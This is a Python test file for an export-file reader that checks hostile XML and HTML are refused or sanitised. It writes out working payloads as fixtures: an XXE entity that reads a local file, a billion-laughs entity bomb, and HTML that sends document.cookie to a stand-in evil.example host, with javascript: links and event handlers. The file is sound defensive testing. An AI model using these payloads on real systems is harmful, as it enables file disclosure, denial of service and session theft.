"""Hostile input: XML that tries to read local files or expand without end, HTML that tries to
run code or load things.  Refused or defused, with a clear error naming the file and line."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from reader.errors import DumpError
from tests.unit.formats.samples import WpComment, WpItem, wxr

SECRET = "TOP-SECRET-CONTENT-123"

XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file://{path}"> ]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<item><title>&xxe;</title><content:encoded>&xxe;</content:encoded>
<wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type></item></channel></rss>
"""

BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<disqus xmlns="http://disqus.com"><thread><title>&lol9;</title></thread></disqus>
"""


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def test_external_entity_is_refused(parse_bytes, secret_file: Path) -> None:
    with pytest.raises(DumpError) as caught:
        parse_bytes(XXE.format(path=secret_file).encode(), "evil.xml")
    assert "refused" in str(caught.value) and "evil.xml:2" in str(caught.value)
    assert SECRET not in str(caught.value)


def test_entity_bomb_is_refused_quickly(parse_bytes) -> None:
    started = time.monotonic()
    with pytest.raises(DumpError, match="refused"):
        parse_bytes(BOMB.encode(), "bomb.xml")
    assert time.monotonic() - started < 2


def test_undeclared_entity_is_a_syntax_error_with_its_line(parse_bytes) -> None:
    data = wxr([WpItem(1, "T")]).replace(b"<title>T</title>", b"<title>&nbsp;</title>")
    with pytest.raises(DumpError) as caught:
        parse_bytes(data, "ent.xml")
    assert "malformed XML" in str(caught.value) and caught.value.line


def test_hostile_xml_through_import_changes_nothing(
    library, tmp_path: Path, secret_file: Path
) -> None:
    path = tmp_path / "evil.xml"
    path.write_text(XXE.format(path=secret_file))
    result = library.import_file(path)
    assert not result.ok and result.error and "refused" in result.error
    assert library.stats()["posts"] == 0
    bomb = tmp_path / "bomb.xml"
    bomb.write_text(BOMB)
    assert not library.import_file(bomb).ok
    assert library.stats()["sources"] == 0


HOSTILE_HTML = (
    '<p>Hello<script>document.location="https://evil.example/?c="+document.cookie</script></p>'
    '<img src="https://tracker.example/pixel.gif" onerror="alert(1)">'
    '<a href="javascript:alert(2)">click</a><iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/"><input type="password"></form>'
    '<p style="background:url(https://tracker.example/bg.png)">styled</p>'
)


def test_hostile_html_in_a_post_and_comment(parse_bytes) -> None:
    item = WpItem(1, "Evil", content=HOSTILE_HTML, comments=[WpComment(2, HOSTILE_HTML)])
    post = parse_bytes(wxr([item]))[0][0]
    for html, text in ((post.html, post.body), (post.comments[0].html, post.comments[0].text)):
        assert html is not None
        for bad in (
            "<script",
            "document.cookie",
            "onerror",
            "javascript:",
            "<iframe",
            "<form",
            "<input",
            "style=",
            "<img",
        ):
            assert bad not in html and bad not in text
        assert 'data-src="https://tracker.example/pixel.gif"' in html  # a placeholder, not a load
        assert "Hello" in text and "styled" in text and "[image]" in text


def test_hostile_html_never_reaches_the_store_as_markup(library, tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(
        wxr([WpItem(1, "Evil", content=HOSTILE_HTML, comments=[WpComment(2, HOSTILE_HTML)])])
    )
    assert library.import_file(path).ok
    rows = library.conn.execute("SELECT body FROM posts UNION ALL SELECT text FROM comments")
    for (text,) in rows:
        assert "<script" not in text and "javascript:" not in text and "Hello" in text


def test_entities_declared_after_a_long_prolog_are_refused_too() -> None:
    # The registry would not even recognise this file (its root is beyond the first block);
    # the XML layer refuses it on its own all the same.
    import io

    from reader.formats import ParseReport, disqus

    padding = "<!--" + "x" * (3 << 20) + "-->\n"
    data = BOMB.replace('<?xml version="1.0"?>\n', '<?xml version="1.0"?>\n' + padding)
    report = ParseReport(path=Path("late.xml"))
    with pytest.raises(DumpError, match="refused"):
        list(disqus.parse(io.BytesIO(data.encode()), report))
